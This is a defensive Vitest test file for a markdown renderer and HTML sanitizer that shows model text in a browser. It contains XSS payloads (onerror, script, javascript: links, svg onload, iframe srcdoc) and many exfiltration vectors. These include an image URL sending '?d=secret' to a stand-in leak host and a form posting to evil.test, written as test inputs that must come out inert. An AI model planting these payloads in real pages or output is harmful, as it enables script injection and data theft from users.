// @vitest-environment jsdom
/**
 * The trust boundary of model text: nothing a model writes runs (the 8 payloads of the
 * browser test `test_malicious_markdown_is_inert`), and nothing it writes makes the browser
 * fetch a URL by itself (one case per auto-loading kind DOMPurify allows by default).
 */
import { describe, expect, it } from "vitest";
import { renderMarkdown, sanitizeHtml } from "../src/markdown";

const PNG = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==";
const LEAK = "https://leak.invalid";

function dom(html: string): HTMLElement {
  const div = document.createElement("div");
  div.innerHTML = html; // what parts.ts does with the result
  return div;
}

/** Elements that fetch (or could fetch) a URL as soon as they are in the page. */
const LOADERS =
  "img:not([src^='data:image/']), video, audio, source, track, picture, link, style, meta, base, iframe, frame, " +
  "object, embed, input[type=image], svg, math, image, feimage, use, portal, fencedframe";
const LOADING_ATTRS = ["srcset", "imagesrcset", "poster", "background", "lowsrc", "dynsrc", "longdesc", "ping", "data"];

/** Fail if anything in `root` would load a URL by itself; the leak host may only be a link's target (or title). */
function expectNothingLoads(root: HTMLElement): void {
  expect(Array.from(root.querySelectorAll(LOADERS), (e) => e.outerHTML)).toEqual([]);
  for (const el of Array.from(root.querySelectorAll("*"))) {
    for (const { name, value } of Array.from(el.attributes)) {
      const where = `${el.tagName.toLowerCase()}[${name}=${value}]`;
      expect(LOADING_ATTRS, where).not.toContain(name);
      if (name === "src") expect(el.tagName === "IMG" && value.startsWith("data:image/png"), where).toBe(true);
      if (name === "style") expect(value, where).not.toMatch(/[(\\]/);
      if (value.includes("leak.invalid")) expect(el.tagName === "A" && ["href", "title"].includes(name), where).toBe(true);
    }
  }
}

function mediaLinks(root: HTMLElement): string[] {
  return Array.from(root.querySelectorAll<HTMLAnchorElement>("a.think-media-link"), (a) => a.getAttribute("href") ?? "");
}

describe("model text never runs", () => {
  // the payloads of tests/e2e/test_stream_flows.py::test_malicious_markdown_is_inert, one at a time
  const PAYLOADS: [string, string][] = [
    ["img onerror", '<img src=x onerror="window.__pwned=1">'],
    ["script", "<script>window.__pwned=2</script>"],
    ["markdown javascript: link", "[click me](javascript:window.__pwned=3)"],
    ["raw javascript: link", '<a href="javascript:window.__pwned=4">raw</a>'],
    ["svg onload", '<svg onload="window.__pwned=5"></svg>'],
    ["iframe srcdoc", '<iframe srcdoc="<script>parent.__pwned=6</script>"></iframe>'],
    ["markdown javascript: image", "![x](javascript:window.__pwned=7)"],
    ["img in a tool argument", "<img src=x onerror=window.__pwned=8>"],
  ];

  for (const [name, payload] of PAYLOADS) {
    it(`${name}: inert as markdown and as raw HTML`, () => {
      for (const html of [renderMarkdown(`Hi ${payload} **bold**`), sanitizeHtml(`Hi ${payload} <strong>bold</strong>`)]) {
        const root = dom(html);
        expect(root.querySelector("script, iframe, svg, img")).toBeNull();
        expect(root.querySelector("[onerror], [onload], [srcdoc]")).toBeNull();
        expect(root.querySelector("[href^='javascript' i], [src^='javascript' i]")).toBeNull();
        expect(root.querySelector("strong")?.textContent).toBe("bold");
        expectNothingLoads(root);
      }
    });
  }

  it("markdown keeps raw HTML as text and code as code", () => {
    const root = dom(renderMarkdown("a <b>tag</b> and `<b>code</b>`"));
    expect(root.querySelector("b")).toBeNull();
    expect(root.querySelector("code")?.textContent).toBe("<b>code</b>");
    expect(root.textContent).toContain("<b>tag</b>");
  });
});

describe("model text never makes the browser fetch", () => {
  // [kind, input, render with, the media links expected in its place]
  const KINDS: [string, string, "markdown" | "html", string[]][] = [
    ["markdown image", `![chart](${LEAK}/leak?d=secret)`, "markdown", [`${LEAK}/leak?d=secret`]],
    ["markdown reference image", `![r][ref]\n\n[ref]: ${LEAK}/ref.png`, "markdown", [`${LEAK}/ref.png`]],
    ["markdown image inside a link", `[![x](${LEAK}/in.png)](https://example.org/)`, "markdown", []],
    ["img src", `<img src="${LEAK}/a.png" alt="chart">`, "html", [`${LEAK}/a.png`]],
    ["img with a relative src", `<img src="files/plot.png">`, "html", ["files/plot.png"]],
    ["img srcset only", `<img srcset="${LEAK}/s1.png 1x, ${LEAK}/s2.png 2x">`, "html", [`${LEAK}/s1.png`]],
    ["inline img with a remote srcset", `<img src="${PNG}" srcset="${LEAK}/s.png 2x">`, "html", []],
    ["<image> (parsed as img)", `<image src="${LEAK}/image.png">`, "html", [`${LEAK}/image.png`]],
    ["picture and source", `<picture><source srcset="${LEAK}/p.webp"><img src="${LEAK}/p.png" alt="p"></picture>`,
      "html", [`${LEAK}/p.png`]],
    ["video src and poster", `<video src="${LEAK}/v.mp4" poster="${LEAK}/poster.png" autoplay></video>`, "html",
      [`${LEAK}/v.mp4`]],
    ["video poster only", `<video poster="${LEAK}/poster.png"></video>`, "html", [`${LEAK}/poster.png`]],
    ["video source and track", `<video><source src="${LEAK}/s.mp4"><track src="${LEAK}/t.vtt"></video>`, "html",
      [`${LEAK}/s.mp4`]],
    ["audio src", `<audio src="${LEAK}/a.mp3" autoplay></audio>`, "html", [`${LEAK}/a.mp3`]],
    ["source and track outside media", `<source src="${LEAK}/s.mp4"><track src="${LEAK}/t.vtt">`, "html", []],
    ["input type=image", `<input type="image" src="${LEAK}/btn.png" alt="go">`, "html", [`${LEAK}/btn.png`]],
    ["input with a src", `<input type="text" src="${LEAK}/x.png">`, "html", []],
    ["link stylesheet", `<link rel="stylesheet" href="${LEAK}/s.css">`, "html", []],
    ["link prefetch/preload", `<link rel="prefetch" href="${LEAK}/p"><link rel="preload" as="image" href="${LEAK}/i">`,
      "html", []],
    ["style element", `<style>@import url(${LEAK}/i.css); p { background: url(${LEAK}/b.png) }</style>`, "html", []],
    ["style attribute url()", `<p style="background-image: url('${LEAK}/bg.png')">x</p>`, "html", []],
    ["style attribute image-set()", `<p style="background: image-set('${LEAK}/is.png' 1x)">x</p>`, "html", []],
    ["style attribute escaped url", `<p style="background: \\75 rl(${LEAK}/esc.png)">x</p>`, "html", []],
    ["style attribute cursor/list-style", `<ul style="list-style: url(${LEAK}/l.png)"><li style="cursor: url(${LEAK}/c.cur), auto">x</li></ul>`,
      "html", []],
    ["background attribute", `<table background="${LEAK}/t.png"><tr><td background="${LEAK}/td.png">x</td></tr></table>`,
      "html", []],
    ["svg image", `<svg><image href="${LEAK}/i.png"/><image xlink:href="${LEAK}/x.png"/></svg>`, "html", []],
    ["svg feImage and url() fill", `<svg><filter id="f"><feImage href="${LEAK}/fe.png"/></filter><rect fill="url(${LEAK}/g.svg#g)"/></svg>`,
      "html", []],
    ["svg use", `<svg><use href="${LEAK}/u.svg#a"/></svg>`, "html", []],
    ["object, embed, iframe", `<object data="${LEAK}/o"></object><embed src="${LEAK}/e"><iframe src="${LEAK}/f"></iframe>`,
      "html", []],
    ["meta refresh and base", `<meta http-equiv="refresh" content="0;url=${LEAK}/m"><base href="${LEAK}/">`, "html", []],
    ["a ping", `<a href="https://example.org/" ping="${LEAK}/ping">go</a>`, "html", []],
  ];

  for (const [kind, input, how, links] of KINDS) {
    it(`${kind}`, () => {
      const root = dom(how === "markdown" ? renderMarkdown(input) : sanitizeHtml(input));
      expectNothingLoads(root);
      expect(mediaLinks(root)).toEqual(links);
      for (const a of Array.from(root.querySelectorAll("a"))) {
        expect(a.getAttribute("target")).toBe("_blank");
        expect(a.getAttribute("rel")).toBe("noopener noreferrer");
      }
    });
  }

  it("a remote image becomes a labelled link that says it was not loaded", () => {
    const root = dom(renderMarkdown(`See ![the chart](${LEAK}/c.png?d=1) here.`));
    const a = root.querySelector<HTMLAnchorElement>("a.think-media-link")!;
    expect(a.textContent).toBe("🖼 the chart");
    expect(a.title).toBe(`image: ${LEAK}/c.png?d=1 (not loaded)`);
    expect(root.textContent).toBe("See 🖼 the chart here.\n");
  });

  it("an image inside a link leaves one link, to the outer target, labelled by the image", () => {
    const root = dom(renderMarkdown(`[![logo](${LEAK}/in.png)](https://example.org/)`));
    expect(Array.from(root.querySelectorAll("a"), (a) => [a.getAttribute("href"), a.textContent])).toEqual([
      ["https://example.org/", "🖼 logo"],
    ]);
  });

  it("inline data: images stay images (no request); svg data and javascript: images do not", () => {
    const root = dom(renderMarkdown(`![dot](${PNG})`));
    expect(root.querySelector("img")?.getAttribute("src")).toBe(PNG);
    expect(root.querySelector("img")?.getAttribute("alt")).toBe("dot");
    const svg = dom(sanitizeHtml(`<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'/>" alt="s">`));
    expect(svg.querySelector("img, a")).toBeNull();
    expect(svg.textContent).toBe("🖼 s");
    const js = dom(sanitizeHtml(`<img src="javascript:alert(1)" alt="j">`));
    expect(js.querySelector("img, a")).toBeNull();
    expect(js.textContent).toBe("🖼 j");
  });

  it("a form cannot post anywhere: <form>, action and formaction are dropped", () => {
    const root = dom(sanitizeHtml(`<form action="https://evil.test/p"><input name="q"><button formaction="https://evil.test/b">go</button></form>`));
    expect(root.querySelector("form, [action], [formaction]")).toBeNull();
  });

  it("table alignment styles stay; links and text are untouched", () => {
    const root = dom(renderMarkdown("| n |\n|--:|\n| 1 |\n\nsee https://example.org/x and [y](https://example.org/y)"));
    expect(root.querySelector("td")?.getAttribute("style")).toBe("text-align:right");
    expect(Array.from(root.querySelectorAll("a"), (a) => a.getAttribute("href"))).toEqual([
      "https://example.org/x", "https://example.org/y",
    ]);
  });
});
